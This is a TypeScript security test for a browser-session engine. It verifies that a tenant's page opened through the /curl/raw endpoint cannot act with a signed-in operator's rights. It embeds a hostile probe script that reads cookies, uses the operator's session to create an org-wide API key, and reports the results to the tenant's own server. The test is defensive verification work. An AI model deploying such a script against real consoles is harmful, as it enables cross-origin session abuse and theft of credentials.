/**
 * Issue 25 row 2: a tenant sends the operator a `/browsers/<id>/curl/raw?url=<tenant site>&jwt=<own
 * session JWT>` link. Opened in the operator's browser, signed into the console, the tenant's
 * page must not run with the console's rights: its script does not run on the engine's origin
 * (no API key created with the operator's cookie, no same-origin fetch at all), and its
 * Set-Cookie lands nowhere. Control: the same page on its own origin runs its probe and sets its
 * cookie, so the probe could have worked.
 */
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type Kernel from '@onkernel/sdk';
import { openConsole, type Console } from './console-harness.js';
import { startLocalServer, type LocalServer } from '../helpers/local-server.js';

let c: Console;
let site: LocalServer;
let sessionId: string;
let jwt: string;
/** The tenant's official client (its route cache holds the session, as `browsers.fetch` needs). */
let tenant: Kernel;
/** What probe scripts reported to the tenant's site: the origin they ran on and what they got. */
const reports: Array<{ origin: string; cookie?: string; status?: number; error?: string }> = [];

const STOLEN = 'stolen-by-tenant';

/** The tenant's page: reads the origin's cookies, creates an org-wide key with the console's cookie, reports to its own site. */
function tenantPage(reportTo: string): string {
  const probe = `
    window.__probe = { started: true };
    (async () => {
      const r = { origin: location.origin };
      try { r.cookie = document.cookie; } catch (e) { r.error = String(e); }
      try {
        const res = await fetch('/org/api_keys', {
          method: 'POST',
          credentials: 'include',
          headers: { 'content-type': 'application/json', 'x-browserdeck-console': '1' },
          body: JSON.stringify({ name: ${JSON.stringify(STOLEN)} }),
        });
        r.status = res.status;
      } catch (e) { r.error = String(e); }
      await fetch(${JSON.stringify(reportTo)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(r) }).catch(() => {});
      window.__probe.done = r;
    })();`;
  return `<!doctype html><html><head><title>tenant</title></head><body><h1>tenant page</h1><script>${probe}</script></body></html>`;
}

beforeAll(async () => {
  site = await startLocalServer((req: http.IncomingMessage, res: http.ServerResponse) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/report') {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString()));
      req.on('end', () => {
        reports.push(JSON.parse(body) as (typeof reports)[number]);
        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      });
      return;
    }
    if (url.pathname === '/tenant') {
      res.writeHead(200, {
        'content-type': 'text/html; charset=utf-8',
        'set-cookie': 'tenant_cookie=planted; Path=/',
      });
      res.end(tenantPage(`${site.url}/report`));
      return;
    }
    res.writeHead(404).end();
  });
  // The engine's test default allows its browsers to reach this loopback site.
  c = await openConsole();
  await c.signIn();
  const { te } = c;
  const project = await te.client.projects.create({ name: 'tenant' });
  const tenantKey = (await te.client.apiKeys.create({ name: 'tenant-key', project_id: project.id })).key;
  tenant = te.clientWith({ apiKey: tenantKey });
  const s = await tenant.browsers.create({ headless: true, timeout_seconds: 300 });
  sessionId = s.session_id;
  jwt = new URL(s.cdp_ws_url).searchParams.get('jwt')!;
}, 180_000);

afterAll(async () => {
  if (sessionId) await c?.te.client.browsers.deleteByID(sessionId).catch(() => {});
  await c?.close();
  await site?.close();
});

/** Opens `url` in a new tab of the signed-in console's browser; waits for a probe that started to finish. */
async function open(url: string): Promise<{ page: Page; ran: boolean }> {
  const page = await c.context.newPage();
  await page.goto(url);
  // Inline scripts run before `load`: a probe that did not start by now never will.
  const ran = await page.evaluate(() => (window as { __probe?: unknown }).__probe !== undefined);
  if (ran) await page.waitForFunction(() => (window as { __probe?: { done?: unknown } }).__probe?.done !== undefined);
  return { page, ran };
}

const keyNames = async () => {
  const names: string[] = [];
  for await (const k of c.te.client.apiKeys.list()) names.push(k.name);
  return names;
};

describe('a tenant link to /curl/raw opened by a signed-in operator', () => {
  it('runs no tenant script on the engine origin, creates no key and sets no cookie', async () => {
    const { te, context } = c;
    const link = `${te.url}/browsers/${sessionId}/curl/raw?url=${encodeURIComponent(`${site.url}/tenant`)}&jwt=${encodeURIComponent(jwt)}`;
    const { page, ran } = await open(link);
    // Soft: on a vulnerable engine every consequence is reported, not only the first.
    // The tenant's page did arrive (the browser rendered its bytes) …
    await page.getByRole('heading', { name: 'tenant page' }).waitFor();
    // … but its script never ran, and nothing reported from the engine's origin.
    expect.soft(ran).toBe(false);
    expect.soft(reports.filter((r) => r.origin === te.url)).toEqual([]);
    // The document has no origin: even code that did run there could not reach the API with the cookie.
    expect.soft(await page.evaluate(() => window.origin)).toBe('null');
    const sameOrigin = await page.evaluate(async () => {
      try {
        const res = await fetch('/org/api_keys', {
          method: 'POST',
          credentials: 'include',
          headers: { 'content-type': 'application/json', 'x-browserdeck-console': '1' },
          body: JSON.stringify({ name: 'stolen-by-tenant' }),
        });
        return `status ${res.status}`;
      } catch (e) {
        return `refused: ${String(e)}`;
      }
    });
    expect.soft(sameOrigin).toMatch(/^refused/);
    expect.soft(await keyNames()).not.toContain(STOLEN);
    // The target's Set-Cookie (and Clear-Site-Data) did not act on the engine's origin: the console is still signed in.
    const cookies = await context.cookies(te.url);
    expect.soft(cookies.map((k) => k.name)).not.toContain('tenant_cookie');
    expect(cookies.map((k) => k.name)).toContain('bd_console');
    // The official client still gets the target's answer: status, type and body.
    const fetched = await tenant.browsers.fetch(sessionId, `${site.url}/tenant`);
    expect(fetched.status).toBe(200);
    expect(fetched.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(fetched.headers.get('content-security-policy')).toBe('sandbox');
    expect(fetched.headers.get('x-content-type-options')).toBe('nosniff');
    expect(fetched.headers.get('set-cookie')).toBeNull();
    expect(await fetched.text()).toContain('tenant page');
    await page.close();
  });

  it('control: the same page on its own origin runs its probe and sets its cookie', async () => {
    const { page, ran } = await open(`${site.url}/tenant`);
    expect(ran).toBe(true);
    expect(reports.filter((r) => r.origin === site.url).length).toBeGreaterThan(0);
    const cookies = await c.context.cookies(site.url);
    expect(cookies.map((k) => k.name)).toContain('tenant_cookie');
    await page.close();
  });
});
